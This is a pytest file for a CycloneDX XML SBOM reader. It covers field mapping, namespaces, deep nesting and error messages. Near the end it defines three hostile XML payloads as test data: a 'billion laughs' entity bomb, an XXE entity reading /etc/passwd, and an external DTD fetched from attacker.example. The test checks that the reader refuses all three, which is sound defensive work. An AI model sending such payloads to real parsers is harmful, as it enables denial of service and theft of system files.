"""CycloneDX XML reader: namespaces, nesting, both tools forms, and untrusted-XML refusals (DTDs)."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from core.errors import SbomError
from core.sbom import Hash, SbomFormat, Tool
from ingest.sbom.cyclonedx_xml import READER


def bom(body: str, spec: str = "1.6", attributes: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<bom xmlns="http://cyclonedx.org/schema/bom/{spec}" version="1" {attributes}>{body}</bom>'
    ).encode()


ONE = (
    "<components><component type='library'><name>a</name><version>1</version>"
    "<purl>pkg:npm/a@1</purl></component></components>"
)


def test_full_document_maps_every_field() -> None:
    data = bom(
        """
        <metadata>
          <timestamp>2024-03-01T12:00:00-01:00</timestamp>
          <tools>
            <components>
              <component type="application">
                <group>@cyclonedx</group><name>cdxgen</name><version>9</version>
              </component>
            </components>
            <services><service><provider><name>Acme</name></provider><name>svc</name></service></services>
          </tools>
          <authors><author><name>Ops Team</name></author></authors>
          <manufacturer><name>Example GmbH</name></manufacturer>
          <component type="application"><name>shop</name><version>4.2</version></component>
        </metadata>
        <components>
          <component type="library" bom-ref="ref-1">
            <supplier><name>OpenJS</name></supplier>
            <name><![CDATA[lodash]]></name>
            <version>4.17.20</version>
            <hashes><hash alg="SHA-256">abc</hash><hash alg="MD5"> </hash></hashes>
            <licenses><license><id>MIT</id></license><license><name>Other</name></license></licenses>
            <purl>
              pkg:npm/lodash@4.17.20
            </purl>
          </component>
          <component type="library">
            <name>expr</name><version>1</version>
            <licenses><expression>Apache-2.0 OR MIT</expression></licenses>
            <purl>pkg:npm/expr@1</purl>
          </component>
        </components>
        <vulnerabilities><vulnerability><id>CVE-1</id></vulnerability></vulnerabilities>
        """,
        attributes='serialNumber="urn:uuid:591eb851-2646-4d52-aa40-ac8b35a2b2d7"',
    )
    parsed = READER.read(data, "shop.xml")

    assert parsed.format is SbomFormat.CYCLONEDX_XML
    assert parsed.spec_version == "1.6"
    assert parsed.serial_number == "urn:uuid:591eb851-2646-4d52-aa40-ac8b35a2b2d7"
    assert parsed.timestamp == datetime(2024, 3, 1, 13, 0, tzinfo=UTC)
    assert parsed.tools == (Tool("cdxgen", "9", "@cyclonedx"), Tool("svc", None, "Acme"))
    assert parsed.authors == ("Ops Team", "Example GmbH")
    assert parsed.vulnerability_count == 1
    assert parsed.subject is not None
    assert parsed.subject.name == "shop"
    lodash, expr = parsed.components
    assert (lodash.name, lodash.purl, lodash.bom_ref, lodash.supplier) == (
        "lodash",
        "pkg:npm/lodash@4.17.20",
        "ref-1",
        "OpenJS",
    )
    assert lodash.hashes == (Hash("SHA-256", "abc"),)
    assert lodash.licenses == ("MIT", "Other")
    assert expr.licenses == ("Apache-2.0 OR MIT",)


def test_legacy_tools_and_prefixed_namespace() -> None:
    data = (
        b'<cdx:bom xmlns:cdx="http://cyclonedx.org/schema/bom/1.4"><cdx:metadata><cdx:tools>'
        b"<cdx:tool><cdx:vendor>anchore</cdx:vendor><cdx:name>syft</cdx:name><cdx:version>0.73</cdx:version></cdx:tool>"
        b"</cdx:tools></cdx:metadata><cdx:components><cdx:component type='library'><cdx:name>a</cdx:name>"
        b"<cdx:purl>pkg:apk/alpine/a@1</cdx:purl></cdx:component></cdx:components></cdx:bom>"
    )
    parsed = READER.read(data, "p.xml")
    assert parsed.spec_version == "1.4"
    assert parsed.tools == (Tool("syft", "0.73", "anchore"),)
    assert parsed.components[0].version == "1"


def test_nested_components_flatten_depth_first_including_the_subjects_children() -> None:
    data = bom(
        """
        <metadata><component type="application"><name>product</name>
          <components>
            <component type="library"><name>module</name><purl>pkg:maven/g/module@1</purl></component>
          </components>
        </component></metadata>
        <components>
          <component type="library"><name>a</name><purl>pkg:npm/a@1</purl>
            <components>
              <component type="library"><name>a.1</name><purl>pkg:npm/a.1@1</purl>
                <components>
                  <component type="library"><name>a.1.1</name><purl>pkg:npm/a.1.1@1</purl></component>
                </components>
              </component>
              <component type="library"><name>a.2</name><purl>pkg:npm/a.2@1</purl></component>
            </components>
          </component>
          <component type="library"><name>b</name><purl>pkg:npm/b@1</purl></component>
        </components>
        """
    )
    assert [c.name for c in READER.read(data, "n.xml").components] == [
        "module",
        "a",
        "a.1",
        "a.1.1",
        "a.2",
        "b",
    ]


def test_very_deep_nesting_needs_no_recursion() -> None:
    levels = 5000  # far beyond Python's default recursion limit of 1,000
    opening = "".join(
        f"<component type='library'><name>n{i}</name><purl>pkg:npm/n{i}@1</purl><components>"
        for i in range(levels)
    )
    data = bom(f"<components>{opening}{'</components></component>' * levels}</components>")
    assert len(READER.read(data, "deep.xml").components) == levels


def test_skip_reasons() -> None:
    data = bom(
        "<components>"
        "<component type='library'><name>none</name><version>1</version></component>"
        "<component type='library'><name>bad</name><version>1</version><purl>not a purl</purl></component>"
        "<component type='library'><name>nover</name><purl>pkg:npm/nover</purl></component>"
        "</components>"
    )
    assert [c.skip_reason for c in READER.read(data, "s.xml").components] == [
        "no-purl",
        "invalid-purl",
        "no-version",
    ]


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE bom [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<bom xmlns="http://cyclonedx.org/schema/bom/1.4" version="1">
  <components><component type="library"><name>&lol9;</name><purl>pkg:npm/x@1</purl></component></components>
</bom>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE bom [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<bom xmlns="http://cyclonedx.org/schema/bom/1.4" version="1">
  <components><component type="library"><name>&xxe;</name><purl>pkg:npm/x@1</purl></component></components>
</bom>"""

EXTERNAL_DTD = (
    b"""<?xml version="1.0"?>
<!DOCTYPE bom SYSTEM "http://attacker.example/evil.dtd">
<bom xmlns="http://cyclonedx.org/schema/bom/1.4" version="1">"""
    + ONE.encode()
    + b"</bom>"
)


@pytest.mark.parametrize(
    "payload", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD], ids=["laughs", "xxe", "dtd"]
)
def test_dtds_and_entities_are_refused_before_anything_is_expanded(payload: bytes) -> None:
    with pytest.raises(SbomError) as caught:
        READER.read(payload, "evil.xml")
    assert str(caught.value) == "evil.xml: XML DTDs and entities are not allowed"
    # Nothing was expanded into the message, and no ParsedSbom (with an expanded name) came back.
    assert "lol" not in str(caught.value)
    assert "root:" not in str(caught.value)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (
            bom(ONE, spec="1.1"),
            "s.xml: unsupported spec version CycloneDX 1.1 (supported: 1.2, 1.3, 1.4, 1.5, 1.6)",
        ),
        (
            bom(ONE, spec="1.0"),
            "s.xml: unsupported spec version CycloneDX 1.0 (supported: 1.2, 1.3, 1.4, 1.5, 1.6)",
        ),
        (bom(""), "s.xml: SBOM has no components"),
        (bom("<components/>"), "s.xml: SBOM has no components"),
        (
            bom("<metadata><timestamp>soon</timestamp></metadata>" + ONE),
            "s.xml: metadata.timestamp is not an ISO 8601 date-time: 'soon'",
        ),
        (
            b'<bom xmlns="http://cyclonedx.org/schema/bom/1.5">\n<components>\n<component></components></bom>',
            "s.xml: malformed XML at line 3, column 13: mismatched tag",
        ),
        (
            b"<bom xmlns='http://cyclonedx.org/schema/bom/1.5'>",
            "s.xml: malformed XML at line 1, column 49: no element found",
        ),
        (
            b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>',
            "s.xml: unknown SBOM format: XML root <RDF> is not a CycloneDX <bom>",
        ),
    ],
)
def test_refusals_name_the_source_and_the_problem(data: bytes, message: str) -> None:
    with pytest.raises(SbomError) as caught:
        READER.read(data, "s.xml")
    assert str(caught.value) == message
